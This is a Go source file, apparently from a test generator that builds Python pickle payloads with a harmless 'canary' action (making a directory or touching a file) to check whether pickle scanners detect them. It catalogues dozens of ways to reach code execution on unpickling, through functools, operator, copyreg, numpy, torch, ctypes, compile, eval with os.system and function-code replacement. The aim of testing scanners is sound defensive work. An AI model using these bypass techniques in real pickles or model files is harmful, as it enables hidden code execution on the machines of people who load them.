package canary

import (
	"math/rand/v2"
	"strings"
)

// A way is one that leads to a call which makes the canary.
type way struct {
	name string
	make func(path string, rng *rand.Rand) node
}

// ways returns every way, in a fixed order.
func ways() []way {
	var out []way
	for _, t := range append(direct, late...) {
		out = append(out, way{t.module + "." + t.name, func(path string, rng *rand.Rand) node { return t.node(path) }})
	}
	for _, w := range special {
		out = append(out, way{w.name, func(path string, _ *rand.Rand) node { return w.make(path) }})
	}
	for _, v := range verbs {
		out = append(out, way{"by " + v.name, func(path string, rng *rand.Rand) node {
			t := simple[rng.IntN(len(simple))]
			return v.make(t.module, t.name, str(strings.ReplaceAll(t.args[0].(string), "@", path)))
		}})
	}
	return out
}

// simple lists targets with one argument that is a string.
var simple = func() []target {
	var out []target
	for _, t := range direct {
		if len(t.args) != 1 || t.then != nil || strings.Contains(t.name, ".") || t.module == "nt" {
			continue
		}
		if _, ok := t.args[0].(string); ok && !strings.HasPrefix(t.module, "torch") && !strings.HasPrefix(t.module, "numpy") && t.module != "sympy" {
			out = append(out, t)
		}
	}
	return out
}()

func (t target) node(path string) node {
	f := global(t.module, t.name)
	if strings.Contains(t.name, ".") {
		f = dotted(t.module, t.name)
	}
	n := call(f, values(with(t.args, path).([]any))...)
	if t.then != nil {
		n = call(n, values(with(t.then, path).([]any))...)
	}
	return n
}

// verbs lists how a function is called with one argument.
var verbs = []struct {
	name string
	make func(module, name string, arg node) node
}{
	{"REDUCE", func(m, n string, arg node) node { return call(global(m, n), arg) }},
	{"getattr of a module", func(m, n string, arg node) node { return call(getattr(m, n), arg) }},
	{"OBJ", func(m, n string, arg node) node { return obj(global(m, n), arg) }},
	{"INST", func(m, n string, arg node) node { return inst(m, n, arg) }},
	{"functools.partial", func(m, n string, arg node) node {
		return call(call(global("functools", "partial"), global(m, n), arg))
	}},
	{"NEWOBJ of functools.partial", func(m, n string, arg node) node {
		return call(newObj(global("functools", "partial"), global(m, n), arg))
	}},
	{"NEWOBJ_EX of functools.partial", func(m, n string, arg node) node {
		return call(newObjEx(global("functools", "partial"), tuple(global(m, n), arg), dict()))
	}},
	{"BUILD of functools.partial", func(m, n string, arg node) node {
		return call(build(call(global("functools", "partial"), global("builtins", "len")), tuple(global(m, n), tuple(arg), dict(), raw("N"))))
	}},
	{"functools.reduce", func(m, n string, arg node) node {
		return call(global("functools", "reduce"), global("operator", "call"), list(global(m, n), arg))
	}},
	{"map", func(m, n string, arg node) node {
		return call(global("builtins", "list"), call(global("builtins", "map"), global(m, n), list(arg)))
	}},
	{"NEWOBJ of map", func(m, n string, arg node) node {
		return newObj(global("builtins", "tuple"), newObj(global("builtins", "map"), global(m, n), list(arg)))
	}},
	{"OrderedDict of map", func(m, n string, arg node) node {
		return call(global("collections", "OrderedDict"), call(global("builtins", "map"), global(m, n), list(arg)))
	}},
	{"Counter of filter", func(m, n string, arg node) node {
		return call(global("collections", "Counter"), call(global("builtins", "filter"), global(m, n), list(arg)))
	}},
	{"set of starmap", func(m, n string, arg node) node {
		return call(global("builtins", "set"), call(global("itertools", "starmap"), global(m, n), list(tuple(arg))))
	}},
	{"sorted with a key", func(m, n string, arg node) node {
		return call(newObjEx(global("functools", "partial"), tuple(global("builtins", "sorted"), list(arg)), dict(str("key"), global(m, n))))
	}},
	{"operator.call", func(m, n string, arg node) node { return call(global("operator", "call"), global(m, n), arg) }},
	{"operator.methodcaller", func(m, n string, arg node) node {
		return call(call(global("operator", "methodcaller"), str("__call__"), arg), global(m, n))
	}},
	{"operator.methodcaller of a module", func(m, n string, arg node) node {
		return call(call(global("operator", "methodcaller"), str(n), arg), module(m))
	}},
	{"operator.attrgetter", func(m, n string, arg node) node {
		return call(call(call(global("operator", "attrgetter"), str(n)), module(m)), arg)
	}},
	{"operator.itemgetter", func(m, n string, arg node) node {
		modules := seq(module(m), global("sys", "modules"))
		return call(call(global("builtins", "getattr"), call(call(global("operator", "itemgetter"), str(m)), modules), str(n)), arg)
	}},
	{"importlib.import_module", func(m, n string, arg node) node {
		return call(call(global("builtins", "getattr"), call(global("importlib", "import_module"), str(m)), str(n)), arg)
	}},
	{"defaultdict", func(m, n string, arg node) node {
		d := call(global("collections", "defaultdict"), call(global("functools", "partial"), global(m, n), arg))
		return call(global("operator", "getitem"), d, num(1))
	}},
	{"iter with a sentinel", func(m, n string, arg node) node {
		f := call(global("functools", "partial"), global(m, n), arg)
		return call(global("builtins", "next"), call(global("builtins", "iter"), f, str("end")))
	}},
	{"EXT of add_extension", func(m, n string, arg node) node {
		return seq(call(global("copyreg", "add_extension"), str(m), str(n), num(77)), call(extension(77), arg))
	}},
	{"EXT of the inverted registry", func(m, n string, arg node) node {
		return seq(setItem(global("copyreg", "_inverted_registry"), num(78), tuple(str(m), str(n))), call(extension(78), arg))
	}},
	{"EXT of the cache", func(m, n string, arg node) node {
		return seq(setItem(global("copyreg", "_extension_cache"), num(79), global(m, n)), call(extension(79), arg))
	}},
	{"BUILD with __setstate__ of a new class", func(m, n string, arg node) node {
		class := call(global("builtins", "type"), str("X"), tuple(), dict(str("__setstate__"), global(m, n)))
		return build(newObj(class), arg)
	}},
	{"BUILD with __setstate__ of an instance", func(m, n string, arg node) node {
		return build(build(newObj(global("argparse", "Namespace")), dict(str("__setstate__"), global(m, n))), arg)
	}},
	{"BUILD with slots on a class", func(m, n string, arg node) node {
		class := global("argparse", "Namespace")
		return seq(build(class, slots(str("__setstate__"), call(global("builtins", "staticmethod"), global(m, n)))), build(newObj(class), arg))
	}},
	{"APPEND", func(m, n string, arg node) node {
		return appendTo(build(call(global("argparse", "Namespace")), dict(str("append"), global(m, n))), arg)
	}},
	{"APPENDS", func(m, n string, arg node) node {
		return appendsTo(build(newObj(global("argparse", "Namespace")), dict(str("append"), global(m, n))), arg)
	}},
	{"ADDITEMS", func(m, n string, arg node) node {
		return addItems(build(newObj(global("argparse", "Namespace")), dict(str("add"), global(m, n))), arg)
	}},
	{"SETITEM", func(m, n string, arg node) node {
		return setItem(newObj(call(global("builtins", "type"), str("X"), tuple(), dict(str("__setitem__"), global("os", "mkdir")))), arg, num(0o777))
	}},
	{"SETITEMS of a subclass of OrderedDict", func(m, n string, arg node) node {
		class := call(global("builtins", "type"), str("X"), tuple(global("collections", "OrderedDict")), dict(str("__setitem__"), global("os", "mkdir")))
		return setItems(newObj(class), arg, num(0o777))
	}},
	{"a finalizer", func(m, n string, arg node) node {
		class := call(global("builtins", "type"), str("X"), tuple(), dict(str("__del__"), call(global("functools", "partial"), global(m, n), arg)))
		return seq(newObj(class), raw("N"))
	}},
	{"a hash", func(m, n string, arg node) node {
		class := call(global("builtins", "type"), str("X"), tuple(), dict(str("__hash__"), call(global("functools", "partial"), global(m, n), arg)))
		return dict(newObj(class), raw("N"))
	}},
	{"a metaclass", func(m, n string, arg node) node {
		meta := call(global("builtins", "type"), str("M"), tuple(global("builtins", "type")), dict(str("__call__"), call(global("functools", "partial"), global(m, n), arg)))
		return call(call(meta, str("X"), tuple(), dict()))
	}},
	{"a persistent id that is a call", func(m, n string, arg node) node { return persistent(call(global(m, n), arg)) }},
	{"a persistent id that holds a call", func(m, n string, arg node) node {
		return persistent(tuple(str("storage"), global("torch", "FloatStorage"), call(global(m, n), arg), str("cpu"), num(4)))
	}},
	{"a persistent id of a module", func(m, n string, arg node) node {
		return call(persistent(tuple(str("module"), global(m, n), raw("N"), raw("N"))), arg)
	}},
	{"_rebuild_from_type_v2", func(m, n string, arg node) node {
		return call(global("torch._tensor", "_rebuild_from_type_v2"), global(m, n), global("torch", "Tensor"), tuple(arg), dict())
	}},
	{"_ufunc_reconstruct", func(m, n string, arg node) node {
		return call(call(global("numpy.core", "_ufunc_reconstruct"), str(m), str(n)), arg)
	}},
	{"numpy.frompyfunc", func(m, n string, arg node) node {
		return call(call(global("numpy", "frompyfunc"), global(m, n), num(1), num(1)), arg)
	}},
	{"numpy.vectorize", func(m, n string, arg node) node {
		return call(call(global("numpy", "vectorize"), global(m, n), list(str("O"))), arg)
	}},
	{"an array that holds a call", func(m, n string, arg node) node {
		return objectArray(call(global(m, n), arg))
	}},
	{"a scalar that holds a call", func(m, n string, arg node) node {
		return call(global("numpy.core.multiarray", "scalar"), dtypeO(), call(global(m, n), arg))
	}},
	{"Thread.run", func(m, n string, arg node) node {
		t := call(global("threading", "Thread"), raw("N"), global(m, n), raw("N"), tuple(arg))
		return call(dotted("threading", "Thread.run"), t)
	}},
	{"Timer.run", func(m, n string, arg node) node {
		return call(dotted("threading", "Timer.run"), call(global("threading", "Timer"), num(0), global(m, n), list(arg)))
	}},
	{"Process.run", func(m, n string, arg node) node {
		t := call(global("multiprocessing", "Process"), raw("N"), global(m, n), raw("N"), tuple(arg))
		return call(dotted("multiprocessing", "Process.run"), t)
	}},
	{"cProfile.Profile.runcall", func(m, n string, arg node) node {
		return call(dotted("cProfile", "Profile.runcall"), call(global("cProfile", "Profile")), global(m, n), arg)
	}},
	{"bdb.Bdb.runcall", func(m, n string, arg node) node {
		return call(dotted("bdb", "Bdb.runcall"), call(global("bdb", "Bdb")), global(m, n), arg)
	}},
	{"trace.Trace.runfunc", func(m, n string, arg node) node {
		return call(dotted("trace", "Trace.runfunc"), call(global("trace", "Trace"), num(0), num(0)), global(m, n), arg)
	}},
	{"unittest.mock", func(m, n string, arg node) node {
		return call(call(newObjEx(global("functools", "partial"), tuple(global("unittest.mock", "Mock")), dict(str("side_effect"), global(m, n)))), arg)
	}},
	{"contextvars", func(m, n string, arg node) node {
		return call(dotted("contextvars", "Context.run"), call(global("contextvars", "Context")), global(m, n), arg)
	}},
	{"distutils.util.execute", func(m, n string, arg node) node {
		return call(global("distutils.util", "execute"), global(m, n), tuple(arg))
	}},
	{"Tensor.apply_", func(m, n string, arg node) node {
		t := call(global("torch", "tensor"), list(num(1)))
		return call(dotted("torch", "Tensor.apply_"), t, call(global("functools", "partial"), global("os", "mkdir"), arg))
	}},
	{"a protocol-4 path through argparse", func(m, n string, arg node) node { return call(dotted("argparse", "_os.mkdir"), arg) }},
	{"a path through torch.serialization", func(m, n string, arg node) node {
		return call(dotted("torch.serialization", "os.mkdir"), arg)
	}},
	{"a path through collections", func(m, n string, arg node) node {
		return call(call(dotted("collections", "_sys.modules.get"), str("posix")), arg)
	}},
	{"a method of OrderedDict that gives the function", func(m, n string, arg node) node {
		g := dotted("torch._utils", "_rebuild_tensor_v2.__globals__")
		return seq(g, call(call(dotted("collections", "OrderedDict.get"), call(global("collections", "OrderedDict"), dict(str("f"), global(m, n))), str("f")), arg))
	}},
	{"exec of __builtins__, not called", func(m, n string, arg node) node {
		b := call(dotted("torch._utils", "_rebuild_tensor_v2.__globals__.get"), str("__builtins__"))
		return call(call(global("operator", "itemgetter"), str("exec")), b)
	}},
}

func getattr(m, n string) node { return call(global("builtins", "getattr"), module(m), str(n)) }

func module(m string) node { return call(global("importlib", "import_module"), str(m)) }

func dtypeO() node {
	d := call(global("numpy", "dtype"), str("O8"), num(0), num(1))
	return build(d, tuple(num(3), str("|"), raw("N"), raw("N"), raw("N"), num(-1), num(-1), num(63)))
}

// objectArray is an array of numpy with one object.
func objectArray(n node) node {
	array := call(global("numpy.core.multiarray", "_reconstruct"), global("numpy", "ndarray"), tuple(num(0)), octets([]byte("b")))
	return build(array, tuple(num(1), tuple(num(1)), dtypeO(), raw("\x89"), list(n)))
}

// special lists what is no function with arguments.
var special = []struct {
	name string
	make func(path string) node
}{
	{"types.FunctionType of compile", func(p string) node {
		c := call(global("builtins", "compile"), str(strings.ReplaceAll(code, "@", p)), str("x"), str("exec"))
		return call(call(global("types", "FunctionType"), c, dict()))
	}},
	{"NEWOBJ of types.FunctionType", func(p string) node {
		c := call(global("builtins", "compile"), str(strings.ReplaceAll(code, "@", p)), str("x"), str("exec"))
		return call(newObj(global("types", "FunctionType"), c, dict()))
	}},
	{"__import__ and getattr", func(p string) node {
		return call(call(global("builtins", "getattr"), call(global("builtins", "__import__"), str("os")), str("mkdir")), str(p))
	}},
	{"ctypes.CDLL", func(p string) node {
		return call(call(global("builtins", "getattr"), call(global("ctypes", "CDLL"), raw("N")), str("mkdir")), octets([]byte(p)), num(0o777))
	}},
	{"ctypes.pythonapi", func(p string) node {
		return call(dotted("ctypes", "pythonapi.PyRun_SimpleString"), octets([]byte("import os; os.mkdir('"+p+"')")))
	}},
	{"code.InteractiveInterpreter", func(p string) node {
		f := call(global("builtins", "getattr"), call(global("code", "InteractiveInterpreter")), str("runsource"))
		return call(f, str(strings.ReplaceAll(code, "@", p)))
	}},
	{"code.interact", func(p string) node { return call(global("code", "interact"), str(""), lambda(p)) }},
	{"idlelib.run.Executive", func(p string) node {
		o := newObj(global("idlelib.run", "Executive"))
		return call(dotted("idlelib.run", "Executive.runcode"), build(o, dict(str("locals"), dict())), str(strings.ReplaceAll(code, "@", p)))
	}},
	{"pathlib.Path.touch", func(p string) node {
		return call(dotted("pathlib", "Path.touch"), call(global("pathlib", "PosixPath"), str(p)))
	}},
	{"getattr of a path", func(p string) node {
		return call(call(global("builtins", "getattr"), call(global("pathlib", "PosixPath"), str(p)), str("mkdir")))
	}},
	{"typing.ForwardRef", func(p string) node {
		f := call(global("typing", "ForwardRef"), str(strings.ReplaceAll(code, "@", p)))
		return call(global("typing", "_eval_type"), f, dict(), dict())
	}},
	{"typing.get_type_hints", func(p string) node {
		o := build(newObj(global("argparse", "Namespace")), dict(str("__annotations__"), dict(str("x"), str(strings.ReplaceAll(code, "@", p)))))
		return call(global("typing", "get_type_hints"), o)
	}},
	{"timeit.Timer", func(p string) node {
		return call(dotted("timeit", "Timer.timeit"), call(global("timeit", "Timer"), str(strings.ReplaceAll(code, "@", p))), num(1))
	}},
	{"torch.utils.benchmark.Timer", func(p string) node {
		return call(dotted("torch.utils.benchmark", "Timer.timeit"), call(global("torch.utils.benchmark", "Timer"), str("__import__('os').makedirs('"+p+"',511,True)")), num(1))
	}},
	{"sys.setprofile", func(p string) node {
		return seq(call(global("sys", "setprofile"), lambda(p)), call(global("builtins", "dict")))
	}},
	{"sys.settrace", func(p string) node {
		return seq(call(global("sys", "settrace"), lambda(p)), call(global("torch", "typename"), num(1)))
	}},
	{"a function of builtins replaced", func(p string) node {
		return setItem(global("builtins", "__dict__"), str("isinstance"), lambda(p))
	}},
	{"the code of a function replaced", func(p string) node {
		f := global("torch._utils", "_validate_loaded_sparse_tensors")
		c := call(global("builtins", "getattr"), lambda(p), str("__code__"))
		return seq(build(f, slots(str("__code__"), c)), call(f))
	}},
	{"a class of torch replaced", func(p string) node {
		return seq(build(global("torch", "Size"), slots(str("x"), lambda(p))), call(lambda(p)))
	}},
	{"persistent_load of the unpickler", func(p string) node {
		return call(dotted("pickle", "_Unpickler.load"), build(call(global("pickle", "_Unpickler"), call(global("io", "BytesIO"), octets([]byte("Px\n.")))), dict(str("persistent_load"), lambda(p))))
	}},
}

// lambda is a function that makes the canary, whatever it is called with.
func lambda(p string) node {
	return call(global("builtins", "eval"), str("lambda *a, **k: __import__('os').system('touch "+p+"') and None"))
}

// dumped makes torch write the difference between the source of a class and a
// text that the file brings, to a file that is named like the class.
func dumped(p string) node {
	class := global("argparse", "Namespace")
	return seq(build(class, slots(str("dump_patches"), raw("\x88"), str("__name__"), str(p))),
		persistent(tuple(str("module"), class, str("file"), str("other source"))))
}
